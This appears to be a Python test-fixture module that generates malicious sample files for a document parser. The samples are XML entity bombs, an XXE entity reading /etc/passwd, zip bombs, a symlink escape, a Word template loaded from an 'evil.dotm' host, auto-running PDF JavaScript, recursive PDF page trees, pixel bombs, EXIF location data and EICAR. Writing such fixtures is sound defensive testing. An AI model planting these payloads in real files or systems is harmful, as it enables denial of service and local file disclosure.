"""Files somebody might hand over to do harm, each as small as it can be and still be that."""

import io
import struct
import tarfile
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, NumberObject

from tests.sources.documents.small_files import TYPES, docx, package, pdf, word_xml

TENFOLD = (f"<!ENTITY lol{n} '{10 * f'&lol{n - 1};'}'>" for n in range(1, 10))
LAUGHS = f'<!DOCTYPE lolz [<!ENTITY lol0 "lol">{"".join(TENFOLD)}]>'
PAGE = b"<!doctype html><html><p>Output rose by 5 %.</p><script>alert(1)</script></html>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def picture(kind: str = "PNG", *, owner: str = "", place: bool = False) -> bytes:
    """A small picture, whose camera may have written down its owner and where it was."""
    stream, exif = io.BytesIO(), Image.Exif()
    if owner:
        exif[0x013B] = owner
    if place:
        exif.get_ifd(0x8825).update({1: "N", 2: (37.0, 33.0, 58.0), 3: "E", 4: (126.0, 58.0, 41.0)})
    shades = Image.linear_gradient("L").resize((48, 32)).convert("RGB")
    shades.save(stream, kind, exif=exif)
    return stream.getvalue()


def huge_picture() -> bytes:
    """A PNG that claims 10^9 pixels."""
    head = struct.pack(">IIBBBBB", 31_623, 31_623, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 99)), (b"IEND", b""))
    made = (
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(made)


def archive(names: list[str], *, link: bool = False) -> bytes:
    """An archive of empty files, the last of which may be a link."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        for name in names:
            entry = zipfile.ZipInfo(name)
            entry.external_attr = (0o120777 if link and name == names[-1] else 0o600) << 16
            made.writestr(entry, "../../etc/passwd" if link else "")
    return stream.getvalue()


def tar() -> bytes:
    """An archive of the other kind."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as made:
        made.addfile(tarfile.TarInfo("a"), io.BytesIO())
    return stream.getvalue()


def document_with(names: list[str], **options: bool) -> bytes:
    """A Word document that holds these entries besides its own."""
    return archive(["[Content_Types].xml", "word/document.xml", *names], **options)


def bomb() -> bytes:
    """A Word document that would unpack to 70 MB."""
    return package({"[Content_Types].xml": TYPES, "word/document.xml": b"\0" * 70_000_000})


def entities() -> bytes:
    """A Word document with a thousand million laughs in it."""
    body = LAUGHS + word_xml("document", "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body>")
    return package({"[Content_Types].xml": TYPES, "word/document.xml": body})


def outside_entity() -> bytes:
    """A Word document whose text would be a file of the machine."""
    declared = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    body = word_xml("document", "<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body>")
    return package({"[Content_Types].xml": TYPES, "word/document.xml": declared + body})


def remote_template() -> bytes:
    """A Word document that loads its template from elsewhere when it is opened."""
    relation = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" TargetMode="External"'
        ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        ' Target="http://10.0.0.1/evil.dotm"/></Relationships>'
    )
    files = {"[Content_Types].xml": TYPES, "word/document.xml": word_xml("document", "")}
    return package({**files, "word/_rels/settings.xml.rels": relation})


def many_pages(count: int) -> bytes:
    """A PDF whose tree names one page so many times."""
    content = pdf([["5 %"]]).replace(b"/Count 1/", b"/Count %d/" % count)
    return content.replace(b"/Kids[7 0 R]", b"/Kids[" + b"7 0 R " * count + b"]")


def endless_pages() -> bytes:
    """A PDF whose page tree contains itself."""
    return pdf([["x"]]).replace(b"/Kids[7 0 R]", b"/Kids[2 0 R]")


def pdf_with_script() -> bytes:
    """A PDF that runs a script when it is opened."""
    action = b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>/Pages"
    return pdf([["Output rose by 5 %"]]).replace(b"/Type/Catalog/Pages", action)


def pdf_with_huge_picture() -> bytes:
    """A PDF that shows a picture of 10^9 pixels, and no text."""
    writer, image = PdfWriter(), DecodedStreamObject()
    image.set_data(zlib.compress(b"\0" * 99))
    facts = {"/Type": "/XObject", "/Subtype": "/Image", "/ColorSpace": "/DeviceRGB",
             "/Filter": "/FlateDecode"}  # fmt: skip
    image.update({NameObject(key): NameObject(value) for key, value in facts.items()})
    sizes = {"/Width": 31_623, "/Height": 31_623, "/BitsPerComponent": 8}
    image.update({NameObject(key): NumberObject(value) for key, value in sizes.items()})
    page, drawn = writer.add_blank_page(595, 842), DecodedStreamObject()
    drawn.set_data(b"595 0 0 842 0 0 cm /I Do")
    shown = DictionaryObject({NameObject("/I"): writer._add_object(image)})  # noqa: SLF001 - as pypdf's own guide does it
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): shown})
    page[NameObject("/Contents")] = writer._add_object(drawn)  # noqa: SLF001 - as above
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def saved_page() -> bytes:
    """A page saved with all it brings along."""
    return (
        b"From: <Saved by Blink>\r\nSubject: Output\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\n'
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        b"<html><body><p>Output rose by 5 %=2E</p></body></html>\r\n--b--\r\n"
    )


def readable_document() -> bytes:
    """A Word document nothing is wrong with."""
    return docx("<w:p><w:r><w:t>Output rose by 5 %.</w:t></w:r></w:p>")
